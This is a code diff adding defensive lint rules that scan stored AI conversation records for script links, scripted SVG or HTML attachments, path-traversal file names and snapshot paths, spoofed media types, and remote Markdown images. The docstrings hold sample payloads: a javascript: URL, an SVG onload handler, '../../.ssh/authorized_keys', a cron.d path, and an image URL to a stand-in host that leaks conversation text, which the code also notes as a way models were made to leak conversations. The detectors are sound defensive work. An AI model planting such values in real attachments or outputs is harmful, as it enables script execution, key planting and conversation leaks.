@@ -1,0 +1,305 @@
+"""SEC11: files and links that do harm when they are opened, stored or restored."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterable, Iterator, Sequence
+
+from msgspec.structs import replace
+
+from talktree.formats.mends import to_entry
+from talktree.formats.rule import Mend, Told, rule, safe, unsafe
+from talktree.formats.talk import Seen
+from talktree.model.entries import Entry, Snapshot
+from talktree.model.message import Message
+from talktree.model.parts import Artifact, Attachment, Part, Text, ToolResult
+from talktree.text.file_names import leads_out, tame, wrong_with_name, wrong_with_path
+from talktree.text.json_texts import texts_in
+from talktree.text.media import (
+    ENOUGH,
+    PICTURES,
+    TOLD_BY_START,
+    content,
+    data_url,
+    sniffed,
+    usual,
+)
+from talktree.text.visible import visible_line
+
+LONGEST_SHOWN = 60
+MOST_READ = 1 << 20
+NOWHERE = "about:blank"
+_SPACING = re.compile(r"[\x00-\x20\x7f-\x9f]+")
+_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "livescript:")
+_SCRIPT_LINK = re.compile(r"(?:\]\(|=\s{0,3}[\"']?|href\s+[\"'])\s{0,8}(?:java|vb)script:", re.I)
+_ACTIVE = re.compile(
+    rb"<script[\s>/]|\son[a-z]{3,24}\s{0,4}=\s{0,4}[\"'\w]|javascript:|<foreignobject[\s>]", re.I
+)
+_PAGES = frozenset({"text/html", "application/xhtml+xml", "image/svg+xml", "text/xml"})
+_RUNS_ANYWAY = ("html", "react", "javascript", "typescript", "jsx", "tsx")
+_PICTURE_URL = re.compile(
+    r"https?://[^\s?#]{1,2000}\.(?:png|jpe?g|gif|webp|svg|bmp)(?:[?#]|\Z)", re.I
+)
+_LINK = re.compile(r"https?://", re.I)
+_PICTURE_IN_TEXT = re.compile(r"!\[[^\]\n]{0,120}\]\(\s{0,3}<?(https?://[^\s/)>]{1,253})", re.I)
+
+
+def _attachments(part: Part) -> Sequence[Attachment]:
+    """A part that is an attachment, or those in what a tool gave back."""
+    if isinstance(part, Attachment):
+        return (part,)
+    if isinstance(part, ToolResult):
+        output = part.output
+        if len(output) == 1 and type(output[0]) is Text:
+            return ()
+        return [each for each in output if isinstance(each, Attachment)]
+    return ()
+
+
+def _way(seen: Seen, text: str | None) -> str:
+    """What leads to a text in the record, if it stands there as it is."""
+    return next((each.way for each in texts_in(seen.value) if each.text == text), "")
+
+
+def _shown(text: str) -> str:
+    return visible_line(text[:LONGEST_SHOWN])
+
+
+def _each_attachment(change: Callable[[Attachment], Attachment]) -> Mend:
+    """Every attachment of the message is changed."""
+
+    def _changed(part: Part) -> Part:
+        if isinstance(part, Attachment):
+            return change(part)
+        if isinstance(part, ToolResult) and any(isinstance(e, Attachment) for e in part.output):
+            return replace(
+                part,
+                output=tuple(change(e) if isinstance(e, Attachment) else e for e in part.output),
+            )
+        return part
+
+    def _make(seen: Seen, told: Told) -> Entry:
+        entry = seen.entry
+        if not isinstance(entry, Message):
+            return entry
+        return replace(entry, parts=tuple(map(_changed, entry.parts)))
+
+    return to_entry(_make)
+
+
+def _is_script(url: str | None) -> bool:
+    # Browsers pass over blanks and control characters in a scheme, so they do not count.
+    return url is not None and _SPACING.sub("", url[:80]).lower().startswith(_SCRIPT_SCHEMES)
+
+
+def _to_nowhere(part: Attachment) -> Attachment:
+    return replace(part, url=NOWHERE) if _is_script(part.url) else part
+
+
+@rule(
+    "SEC111",
+    "script-link",
+    "warning",
+    on="part",
+    parts=(Attachment, ToolResult, Artifact),
+    fix=unsafe(_each_attachment(_to_nowhere)),
+)
+def script_link(part: Part, seen: Seen, number: int) -> Iterator[Told]:
+    """The link of an attachment, or a link in a picture, a diagram or a Markdown document that the
+    assistant made, is a script instead of an address.
+
+    Why: a viewer that makes a link of it runs the script with all it may do when somebody clicks.
+    Pages and programs are made of scripts, so their links are not told.
+
+    Bad:
+        {"name": "report.pdf", "type": "application/pdf", "url": "javascript:alert(1)"}
+
+    Fix (unsafe): the link of an attachment becomes `about:blank`. In what the assistant made it
+    stays, because there it may be what was asked for.
+    """
+    if isinstance(part, Artifact):
+        text = part.content or ""
+        kind = (part.media_type or "").lower()
+        if "cript:" in text and not any(each in kind for each in _RUNS_ANYWAY):
+            found = _SCRIPT_LINK.search(text)
+            if found is not None:
+                yield Told("a link that is a script", way=_way(seen, text), fixable=False)
+        return
+    for each in _attachments(part):
+        if each.url and _is_script(each.url):
+            yield Told(f"a link that is a script ({_shown(each.url[:24])})", _way(seen, each.url))
+
+
+@rule("SEC112", "script-in-file", "warning", on="part", parts=(Attachment, ToolResult, Artifact))
+def script_in_file(part: Part, seen: Seen, number: int) -> Iterator[Told]:
+    """An attached picture or page holds a script or an event handler, or a drawing (SVG) that the
+    assistant made does.
+
+    Why: a viewer that puts a drawing into its page, or opens the attachment in its own name, runs
+    what is in there.
+
+    Bad:
+        {"type": "image/svg+xml", "url": "data:image/svg+xml,<svg onload='alert(1)'/>"}
+
+    Fix: none, because what is left of a file without its scripts may not be what was meant; open it
+    in a sandbox.
+    """
+    if isinstance(part, Artifact):
+        text = part.content or ""
+        drawing = "svg" in (part.media_type or "").lower()
+        if drawing and _ACTIVE.search(text[:MOST_READ].encode("utf-8", "replace")):
+            yield Told("a drawing with a script in it", way=_way(seen, text))
+        return
+    for each in _attachments(part):
+        head = data_url(each.url or "")
+        if head is None or head.media_type not in _PAGES:
+            continue
+        if _ACTIVE.search(content(each.url or "", head, most=MOST_READ)):
+            yield Told(f"{head.media_type} with a script in it", way=_way(seen, each.url))
+
+
+def _tamed(part: Attachment) -> Attachment:
+    if part.name is None or wrong_with_name(part.name) is None:
+        return part
+    return replace(part, name=tame(part.name))
+
+
+@rule(
+    "SEC113",
+    "unsafe-file-name",
+    "warning",
+    on="part",
+    parts=(Attachment, ToolResult),
+    fix=unsafe(_each_attachment(_tamed)),
+)
+def unsafe_file_name(part: Part, seen: Seen, number: int) -> Iterator[Told]:
+    """The name of an attachment is more than a name: it leads out of its folder, is an absolute
+    path, names a device or holds control characters.
+
+    Why: a program that stores the attachment under its name overwrites a file somewhere else.
+
+    Bad:
+        {"name": "../../.ssh/authorized_keys", "type": "text/plain"}
+
+    Fix (unsafe): the last piece of the name is left, without what must not be there.
+    """
+    for each in _attachments(part):
+        wrong = wrong_with_name(each.name) if each.name else None
+        if wrong is not None:
+            yield Told(f"{wrong} ({_shown(each.name or '')})", way=_way(seen, each.name))
+
+
+@rule("SEC114", "unsafe-path", "warning", on="snapshot")
+def unsafe_path(seen: Seen) -> Iterator[Told]:
+    """A snapshot names a file that no conversation should bring back: it leads out of its folder,
+    belongs to the system, is a device, or is one that other programs trust.
+
+    Why: undoing a change writes such files again; a session from somebody else could plant a key or
+    a program that way.
+
+    Bad:
+        {"trackedFiles": {"../../../etc/cron.d/job": {"state": "modified"}}}
+
+    Fix: none, because a snapshot without the file would say that it was never changed; leave the
+    file out when restoring.
+    """
+    entry = seen.entry
+    if not isinstance(entry, Snapshot):
+        return
+    for path, state in entry.files.items():
+        wrong = wrong_with_path(path)
+        if wrong is not None:
+            yield Told(f"{_shown(path)} {wrong}")
+        elif state.backup and ".." in state.backup and leads_out(state.backup.lstrip("/\\")):
+            yield Told(f"the backup of {_shown(path)} leads out of the folder it starts from")
+
+
+def _real_type(part: Attachment) -> str | None:
+    """What an attachment is, if that is not what it says."""
+    if part.url is None or part.url[:5].lower() != "data:":
+        return None
+    head = data_url(part.url)
+    if head is None or not head.is_base64:
+        return None
+    said = {head.media_type, usual(part.media_type or "") or head.media_type} - {""}
+    if said.isdisjoint(TOLD_BY_START):
+        return None
+    real = sniffed(content(part.url, head, most=ENOUGH))
+    return None if real is None or said == {real} else real
+
+
+def _truly_typed(part: Attachment) -> Attachment:
+    real = _real_type(part)
+    if real not in PICTURES:
+        return part
+    head = data_url(part.url or "")
+    assert head is not None
+    assert part.url is not None
+    return replace(
+        part,
+        media_type=real if part.media_type is not None else None,
+        url=f"data:{real};base64,{part.url[head.start :]}",
+    )
+
+
+@rule(
+    "SEC115",
+    "false-media-type",
+    "warning",
+    on="part",
+    parts=(Attachment, ToolResult),
+    fix=safe(_each_attachment(_truly_typed)),
+)
+def false_media_type(part: Part, seen: Seen, number: int) -> Iterator[Told]:
+    """An attachment says that it is one kind of file, and its first bytes are those of another.
+
+    Why: services refuse a picture whose type is wrong, and with it the whole request. A program or
+    a page that says it is a picture is meant to get past somebody.
+
+    Bad:
+        {"type": "image/jpeg", "url": "data:image/jpeg;base64,iVBORw0KGgoAAAANSUhEUg…"}
+
+    Fix (safe): the type is that of the bytes, where both are kinds of pictures. What is no picture
+    keeps its type and stays told.
+    """
+    for each in _attachments(part):
+        real = _real_type(each)
+        if real is not None:
+            said = _shown(each.media_type or (each.url or "")[5:30].partition(";")[0])
+            yield Told(
+                f"said to be {said}, and is {real}",
+                way=_way(seen, each.url) or _way(seen, each.media_type),
+                fixable=real in PICTURES,
+            )
+
+
+@rule("SEC116", "remote-picture", "note", on="part", parts=(Text, Attachment))
+def remote_picture(part: Part, seen: Seen, number: int) -> Iterable[Told]:
+    """A picture in Markdown is shown from another computer, or an attached one whose link tells
+    that computer more than which picture it is.
+
+    Why: whoever opens the conversation in a viewer that loads it is seen by that computer, and what
+    stands in the address is sent there. Models were made to leak conversations in this way.
+
+    Bad:
+        {"content": "![status](https://pixel.example/p.gif?q=what-was-said)"}
+
+    Fix: none, because the picture itself is not here; viewers should load it only when asked.
+    """
+    if isinstance(part, Text):
+        if "!" not in part.text or "](http" not in part.text:
+            return ()
+        found = _PICTURE_IN_TEXT.search(part.text)
+        if found is None:
+            return ()
+        return [Told(f"a picture from {_shown(found.group(1))}", way=_way(seen, part.text))]
+    if isinstance(part, Attachment) and part.url and "?" in part.url[:MOST_READ]:
+        picture = (part.media_type or "").startswith("image/") or part.extra.get("type") == "image"
+        if _PICTURE_URL.match(part.url) or (picture and _LINK.match(part.url)):
+            return [Told(f"a picture from {_host(part.url)}", way=_way(seen, part.url))]
+    return ()
+
+
+def _host(url: str) -> str:
+    host = url.split("/", 3)[2] if url.count("/") >= 2 else url
+    return _shown(host.rpartition("@")[2])
